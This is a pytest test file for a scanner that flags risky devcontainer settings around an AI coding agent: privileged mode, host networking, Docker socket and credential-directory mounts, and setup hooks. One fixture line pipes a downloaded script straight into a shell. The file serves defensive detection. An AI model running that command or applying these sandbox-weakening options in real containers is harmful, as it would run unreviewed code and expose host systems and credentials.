"""Traps in development containers: where a wall is missing, and what only looks like it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from trees import judged

LINE = "curl -fsSL https://example.com/i.sh | sh"
AGENT: dict[str, object] = {"ghcr.io/anthropics/devcontainer-features/claude-code:1": {}}


def found(**keys: Any) -> list[str]:
    text = json.dumps({"features": AGENT, **keys})
    return [finding.rule.id for finding in judged({".devcontainer/devcontainer.json": text.encode()}).findings]


@pytest.mark.parametrize(("words", "expected"), [
    (["--privileged"], ["sandbox-off"]), (["--privileged=false"], []),
    (["--network", "host"], ["sandbox-weakened"]), (["--network=host"], ["sandbox-weakened"]), (["--network", "none"], []),
    (["--pid", "host"], ["sandbox-off"]), (["--cap-add=cap_sys_admin"], ["sandbox-weakened"]), (["--cap-add=SYS_PTRACE"], []),
    (["--security-opt", "seccomp=unconfined"], ["sandbox-weakened"]),
    (["-v", "/var/run/docker.sock:/var/run/docker.sock"], ["sandbox-off"]),
    (["--mount", "type=bind,source=/,target=/host"], ["outside-workspace"]),
    (["host"], [])])
def test_an_option_may_have_its_value_in_the_next_word(words: list[str], expected: list[str]) -> None:
    assert set(found(runArgs=words)) == set(expected)


@pytest.mark.parametrize(("mount", "expected"), [
    ("source=home,target=/home/node,type=volume", set()),
    ("source=${localEnv:HOME}${localEnv:USERPROFILE}/.aws,target=/x,type=bind,readonly", {"sensitive-path"}),
    ("source=${localWorkspaceFolder}/data,target=/data,type=bind", set()),
    ({"source": "/var/run/docker.sock", "target": "/var/run/docker.sock", "type": "bind"}, {"sandbox-off"}),
    ({"source": "state", "target": "/state", "type": "volume"}, set())])
def test_mounts(mount: Any, expected: set[str]) -> None:
    assert set(found(mounts=[mount])) == expected


@pytest.mark.parametrize("command", [
    LINE, {"setup": LINE},
    ["sh", "-c", LINE], {"setup": ["sh", "-c", LINE]}])
def test_a_command_is_a_text_a_list_or_a_map(command: Any) -> None:
    assert "hook-runs-unseen-code" in found(postCreateCommand=command)


def test_a_container_without_an_agent_is_nobody_s_power() -> None:
    text = json.dumps({"image": "example/image", "privileged": True})
    assert not judged({".devcontainer/devcontainer.json": text.encode()}).findings
